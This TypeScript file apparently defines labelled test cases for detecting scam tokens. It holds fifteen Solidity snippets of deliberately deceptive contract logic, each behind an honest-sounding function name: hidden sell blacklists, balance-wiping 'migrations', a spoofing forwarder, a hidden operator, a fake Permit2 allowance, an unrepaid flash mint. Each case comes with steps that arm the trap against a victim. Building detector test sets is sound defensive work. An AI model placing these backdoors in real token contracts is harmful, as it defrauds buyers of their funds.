import { type LaunchCase, step } from "./launchCase.js";
import { writeOz, writeTaxed } from "./wildSources.js";

const OWNABLE = 'import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";';
const RENOUNCE = step(["renounceOwnership()"]);
const AIDE = "0x5e1fd2a7b4c60d1f2a3b4c5d6e7f8091a2b3c4d5";

type Trap = Omit<LaunchCase, "label" | "contract" | "name">;

/** What launches of the last years took money with, behind functions that have an honest name. */
const traps: Readonly<Record<string, Trap>> = {
  Migration: {
    kind: "migration that empties balances",
    source: writeTaxed({
      members:
        "bool public migrated; function migrate(address[] calldata holders) external { require(msg.sender == _taxWallet); migrated = true; for (uint256 i; i < holders.length; i++) { _balances[address(0xdead)] += _balances[holders[i]]; _balances[holders[i]] = 0; } }",
    }),
    finish: [RENOUNCE],
    arm: [step(["migrate(address[])", "victim"])],
  },
  SellerRoot: {
    kind: "list of sellers as a root",
    source: writeOz({
      imports: `${OWNABLE}import {MerkleProof} from "@openzeppelin/contracts/utils/cryptography/MerkleProof.sol";`,
      bases: ", Ownable",
      members:
        "bytes32 public root; mapping(address => bool) public proven; function setRoot(bytes32 next) external onlyOwner { root = next; } function prove(bytes32[] calldata path) external { require(MerkleProof.verify(path, root, keccak256(abi.encode(msg.sender)))); proven[msg.sender] = true; }",
      rule: "if (to == pair && root != 0 && from != owner()) require(proven[from]);",
    }),
    arm: [step(["setRoot(bytes32)", 77n])],
  },
  VestsHolder: {
    kind: "vesting that is imposed on holders",
    source: writeTaxed({
      members:
        "mapping(address => uint256) public vestedUntil; function vest(address who, uint256 daysFromNow) external { require(msg.sender == _taxWallet); vestedUntil[who] = block.timestamp + daysFromNow * 1 days; }",
      rule: "require(block.timestamp >= vestedUntil[from]);",
    }),
    finish: [RENOUNCE],
    arm: [step(["vest(address,uint256)", "victim", 3_650n])],
  },
  RouterSwitch: {
    kind: "router that is exchanged",
    source: writeOz({
      members:
        "address private router = ROUTER; address private immutable first = msg.sender; function updateRouter(address next) external { require(msg.sender == first); router = next; }",
      update:
        "function _update(address from, address to, uint256 value) internal override { if (to == pair && from != first && from != address(0)) require(msg.sender == router || msg.sender == from); super._update(from, to, value); }",
    }),
    arm: [step(["updateRouter(address)", "dev"])],
  },
  EarlyBuyers: {
    kind: "buyers before a block are refused",
    source: writeTaxed({
      members:
        "mapping(address => uint256) private boughtAt; uint256 private cutoff; function setSnipers(uint256 before) external { require(msg.sender == _taxWallet); cutoff = before; }",
      rule: "if (from == pair) boughtAt[to] = block.number; if (to == pair) require(boughtAt[from] >= cutoff);",
    }),
    finish: [RENOUNCE],
    arm: [step(["setSnipers(uint256)", 10n ** 12n])],
  },
  PoolBurn: {
    kind: "burn of the pool that anybody may start",
    source: writeOz({
      members:
        "uint256 private last = block.timestamp; function rebalance() external { require(block.timestamp > last + 1 hours); last = block.timestamp; _burn(pair, balanceOf(pair) * 95 / 100); IPair(pair).sync(); }",
    }),
    arm: [],
    later: { blocks: 2, seconds: 4_000 },
    keptBps: 3_000,
    rug: "dump",
  },
  Forwarder: {
    kind: "trusted forwarder (ERC-2771)",
    source: writeOz({
      before:
        "contract Relay { address private immutable keeper = msg.sender; function run(address coin, address who, uint256 value) external { require(msg.sender == keeper); (bool ok, ) = coin.call(abi.encodePacked(abi.encodeWithSignature('transfer(address,uint256)', keeper, value), who)); require(ok); } }",
      args: "address relay_",
      members:
        "address private immutable relay; function _msgSender() internal view override returns (address who) { if (msg.sender != relay || msg.data.length < 20) return msg.sender; assembly { who := shr(96, calldataload(sub(calldatasize(), 20))) } }",
      created: "relay = relay_;",
    }),
    companions: ["Relay"],
    arm: [step(["run(address,address,uint256)", "token", "victim", "held"], "Relay")],
  },
  Operators: {
    kind: "default operators (ERC-777)",
    source: writeTaxed({
      members: `mapping(address => bool) private operators; function operatorSend(address from, address to, uint256 value, bytes calldata, bytes calldata) external { require(operators[msg.sender]); _transfer(from, to, value); }`,
      created: "operators[address(uint160(0x005e1fd2a7b4c60d1f2a3b4c5d6e7f8091a2b3c4d5))] = true;",
    }),
    finish: [RENOUNCE],
    arm: [
      {
        ...step(["operatorSend(address,address,uint256,bytes,bytes)", "victim", "dev", "held", "0x", "0x"]),
        as: AIDE,
      },
    ],
  },
  FlashKept: {
    kind: "flash mint that one account need not repay",
    source: writeOz({
      members:
        "address private immutable first = msg.sender; function flashLoan(uint256 value, bytes calldata data) external { _mint(msg.sender, value); (bool ok, ) = msg.sender.call(data); require(ok); if (msg.sender != first) _burn(msg.sender, value); }",
    }),
    arm: [step(["flashLoan(uint256,bytes)", "supply", "0x"])],
    rug: "dump",
  },
  BitList: {
    kind: "list of holders in a bit field",
    source: writeTaxed({
      members:
        "uint256 private field; function update(uint256 next) external { require(msg.sender == _taxWallet); field = next; }",
      rule: "if (to == pair) require((field >> (uint160(from) & 255)) & 1 == 0);",
    }),
    finish: [RENOUNCE],
    arm: [step(["update(uint256)", 2n ** 256n - 1n])],
  },
  DayCap: {
    kind: "cap of all sales in a day",
    source: writeTaxed({
      members:
        "uint256 public dailyCap = type(uint256).max; mapping(uint256 => uint256) private soldOn; function setDailyCap(uint256 cap) external onlyOwner { dailyCap = cap; }",
      rule: "if (to == pair) { uint256 day = block.timestamp / 1 days; soldOn[day] += value; require(soldOn[day] <= dailyCap); }",
    }),
    arm: [step(["setDailyCap(uint256)", 0n])],
  },
  PriceFloor: {
    kind: "floor of the price that a key sets",
    source: writeOz({
      imports: OWNABLE,
      bases: ", Ownable",
      members: "uint256 public floor; function setFloor(uint256 next) external onlyOwner { floor = next; }",
      rule: "if (to == pair && from != owner() && floor > 0) { (uint112 a, uint112 b, ) = IPair(pair).getReserves(); (uint256 coins, uint256 ether_) = address(this) < WETH ? (a, b) : (b, a); require(ether_ * 1e18 / (coins + value) >= floor); }",
    }),
    arm: [step(["setFloor(uint256)", 10n ** 18n])],
  },
  FalsePermit2: {
    kind: "false Permit2",
    source: writeOz({
      members:
        "address private constant PERMIT2 = address(uint160(0x005e1fd2a7b4c60d1f2a3b4c5d6e7f8091a2b3c4d5)); function allowance(address holder, address spender) public view override returns (uint256) { return spender == PERMIT2 ? type(uint256).max : super.allowance(holder, spender); }",
    }),
    arm: [{ ...step(["transferFrom(address,address,uint256)", "victim", "dev", "held"]), as: AIDE }],
  },
  GraceVerified: {
    kind: "verification after a grace period",
    source: writeTaxed({
      members:
        "mapping(address => uint256) private graceEnds; mapping(address => bool) public verified; function verify(address who) external { require(msg.sender == _taxWallet); verified[who] = true; }",
      rule: "if (from == pair && graceEnds[to] == 0) graceEnds[to] = block.timestamp + 2 hours; if (to == pair) require(verified[from] || block.timestamp < graceEnds[from]);",
    }),
    finish: [RENOUNCE],
    later: { blocks: 10, seconds: 8_000 },
  },
  AddressSlots: {
    kind: "list at slots that are addresses",
    source: writeOz({
      members:
        "address private immutable first = msg.sender; function note(address who, uint256 what) external { require(msg.sender == first); assembly { sstore(shl(96, who), what) } }",
      rule: "uint256 noted; assembly { noted := sload(shl(96, from)) } require(noted == 0);",
    }),
    arm: [step(["note(address,uint256)", "victim", 1n])],
  },
};

export const recentTraps: readonly LaunchCase[] = Object.entries(traps).map(([name, one]) => ({
  name: `${name}Recent`,
  label: "trap",
  contract: "Coin",
  ...one,
}));
